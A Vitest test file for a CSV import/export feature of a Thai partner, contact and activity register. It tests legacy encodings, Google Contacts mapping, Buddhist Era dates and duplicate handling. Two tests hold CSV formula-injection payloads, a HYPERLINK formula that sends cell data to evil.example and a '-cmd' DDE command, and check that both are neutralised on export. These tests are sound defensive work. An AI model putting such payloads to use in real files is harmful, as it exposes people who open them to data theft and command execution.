import { describe, expect, it } from 'vitest';
import { applyImport } from '../../../shared/csv/applyImport';
import { decodeCsvBytes } from '../../../shared/csv/decodeCsvBytes';
import { exportCsv } from '../../../shared/csv/exportCsv';
import { parseCsv } from '../../../shared/csv/parseCsv';
import { planImport } from '../../../shared/csv/planImport';
import { fixtureCsvBytes, fixtureRegister } from './fixtureRegister';

describe('the legacy Thai partner list (Windows-874)', () => {
  const decoded = decodeCsvBytes(fixtureCsvBytes('legacy-contacts-windows-874.csv'));
  const register = fixtureRegister();
  const plan = planImport('partners', decoded.text, register);

  it('is decoded as Windows-874 with the right Thai text', () => {
    expect(decoded.encoding).toBe('windows-874');
    expect(decoded.text.split(/\r?\n/)[0]).toBe('ชื่อหน่วยงาน,ผู้ติดต่อ,ตำแหน่ง,โทรศัพท์,อีเมล,เว็บไซต์,หมายเหตุ');
  });

  it('adds the new partners and reports the two already in the register as matched, not copied', () => {
    expect(plan.fatal).toBeUndefined();
    expect(plan.accepted.map((entry) => [entry.line, entry.row.name])).toEqual([
      [2, 'เทศบาลตำบลริมใต้'],
      [4, 'มูลนิธิเด็กดอย'],
    ]);
    expect(plan.matched.map((entry) => [entry.line, entry.id])).toEqual([
      [3, 'P-0005'],
      [5, 'P-0004'],
    ]);
    expect(plan.matched[0].reason.message.th).toContain('“บริษัท ล้านนาซอฟต์ จำกัด”');
    for (const entry of plan.matched) expect(entry.reason.message.en).not.toMatch(/\b[A-Z]{1,3}-\d{3,}\b/);
  });

  it('turns the person columns into a contact with the row’s phone and email', () => {
    const contact = plan.related.find((entry) => entry.line === 2);
    expect(contact?.tab).toBe('contacts');
    expect(contact?.row).toMatchObject({
      name: 'นายสมชาย ใจดี',
      role: 'ปลัดเทศบาล',
      phone: '053-297-111',
      email: 'rimtai@rimtai.go.th',
    });
    // A matched partner gets the person as its contact, pointed at the existing id.
    expect(plan.related.find((entry) => entry.line === 3)?.row).toMatchObject({
      partner_id: 'P-0005',
      name: 'นางสาวอรุณี แสงทอง',
      phone: '02-123-4567 ต่อ 12',
    });
  });

  it('rejects the bad email and the shifted row with reasons', () => {
    expect(plan.rejected.map((entry) => [entry.line, entry.reason.code])).toEqual([
      [6, 'email.invalid'],
      [7, 'row.shifted'],
    ]);
    expect(plan.rejected[0].reason.message.en).toContain('not-an-email');
    expect(plan.rejected[1].reason.message.th).toContain('8');
  });

  it('stores the formula payload as text, and exports it with a leading apostrophe', () => {
    const applied = applyImport(register, plan);
    const foundation = applied.register.tables.partners.find((row) => row.name === 'มูลนิธิเด็กดอย');
    expect(foundation?.notes).toBe('=HYPERLINK("http://evil.example/?"&A1,"คลิก")');
    const exported = parseCsv(exportCsv('partners', applied.register.tables.partners, 'th')).grid;
    const notesAt = exported[0].indexOf('หมายเหตุ');
    const cell = exported.find((line) => line[1] === 'มูลนิธิเด็กดอย')?.[notesAt];
    expect(cell).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"คลิก")');
  });

  it('gives new ids after the highest existing one and links the contact to its new partner', () => {
    const applied = applyImport(register, plan);
    expect(applied.added.filter((entry) => entry.tab === 'partners').map((entry) => entry.id)).toEqual([
      'P-0009',
      'P-0010',
    ]);
    const contact = applied.register.tables.contacts.find((row) => row.name === 'นายสมชาย ใจดี');
    expect(contact?.partner_id).toBe('P-0009');
    expect(applied.register.counters.partners).toBe(10);
    expect(register.tables.partners).toHaveLength(8);
  });
});

describe('a Google Contacts export into contacts', () => {
  const register = fixtureRegister();
  const { text } = decodeCsvBytes(fixtureCsvBytes('google-contacts-export.csv'));
  const plan = planImport('contacts', text, register);
  const applied = applyImport(register, plan);

  it('reports which Google column fills which register column', () => {
    const filled = Object.fromEntries(plan.mapping.map(({ header, column }) => [header, column]));
    expect(filled).toMatchObject({
      'Name Prefix': 'name',
      'Organization Name': 'partner_id',
      'Organization Title': 'role',
      'E-mail 2 - Value': 'email',
      'Phone 1 - Value': 'phone',
      Birthday: null,
    });
  });

  it('builds the name from prefix, first and last name and keeps every email and phone', () => {
    const anan = applied.register.tables.contacts.find((row) => String(row.name).includes('อนันต์'));
    expect(anan).toMatchObject({
      name: 'ดร. อนันต์ ศรีสุข',
      role: 'อาจารย์',
      email: 'anan.s@cmu.ac.th,anan@example.com',
      phone: '089-111-2222,053-941-111',
      partner_id: 'P-0003',
    });
  });

  it('creates a partner for an organisation the register does not know', () => {
    const jane = applied.register.tables.contacts.find((row) => row.name === 'Jane Smith');
    const school = applied.register.tables.partners.find((row) => row.id === jane?.partner_id);
    expect(school?.name).toBe('Chiang Mai International School');
    expect(register.tables.partners.some((row) => row.name === 'Chiang Mai International School')).toBe(
      false,
    );
  });

  it('keeps the injection payload organisation as text, never a formula', () => {
    const payload = applied.register.tables.partners.find((row) => String(row.name).includes('calc'));
    expect(payload?.name).toBe("-cmd|' /C calc'!A0");
    const exported = exportCsv('partners', applied.register.tables.partners, 'en');
    expect(exported).toContain("'-cmd|' /C calc'!A0");
    expect(plan.rejected).toEqual([]);
  });
});

describe('activities from Excel with Thai headers and Buddhist Era dates', () => {
  const register = fixtureRegister();
  const decoded = decodeCsvBytes(fixtureCsvBytes('activities-excel-utf8-bom.csv'));
  const plan = planImport('activities', decoded.text, register);

  it('reads BE dates, resolves partners named in the cell to ids, and stage labels to keys', () => {
    expect(decoded.encoding).toBe('utf-8');
    expect(plan.accepted.map((entry) => entry.row)).toMatchObject([
      {
        date: '2025-06-15',
        partner_ids: 'P-0005',
        strategy: 'S3',
        participation_stage: 'implement',
        participants: 25,
      },
      {
        date: '2025-07-01',
        partner_ids: 'P-0004',
        strategy: 'S3',
        participation_stage: 'plan',
        participants: 14,
      },
    ]);
  });

  it('rejects the last row with one reason that lists all four problems', () => {
    expect(plan.rejected).toHaveLength(1);
    const [{ line, reason }] = plan.rejected;
    expect(line).toBe(4);
    for (const part of ['31/02/2568', 'S9', 'ขั้นที่ไม่มี', 'หลายคน']) {
      expect(reason.message.th).toContain(part);
      expect(reason.message.en).toContain(part);
    }
  });

  it('rejects a partner name that matches nobody, saying which', () => {
    const unknown = planImport('activities', 'วันที่,กิจกรรม,ภาคีเครือข่าย\n1/7/2568,ประชุม,บริษัทที่ไม่มีจริง\n', register);
    expect(unknown.accepted).toEqual([]);
    expect(unknown.rejected[0].reason.message.en).toContain('บริษัทที่ไม่มีจริง');
  });

  it('matches a row already in the register instead of copying it, on a second import', () => {
    const once = applyImport(register, plan).register;
    const again = planImport('activities', decoded.text, once);
    expect(again.accepted).toEqual([]);
    expect(again.matched.map((entry) => entry.id)).toEqual(['A-0008', 'A-0009']);
    // The line itself is shown beside the reason; the reason shows no id a person cannot read.
    expect(again.matched.map((entry) => entry.reason.message)).toEqual([
      { th: 'มีรายการนี้ในทะเบียนแล้ว', en: 'Already in the register' },
      { th: 'มีรายการนี้ในทะเบียนแล้ว', en: 'Already in the register' },
    ]);
  });
});
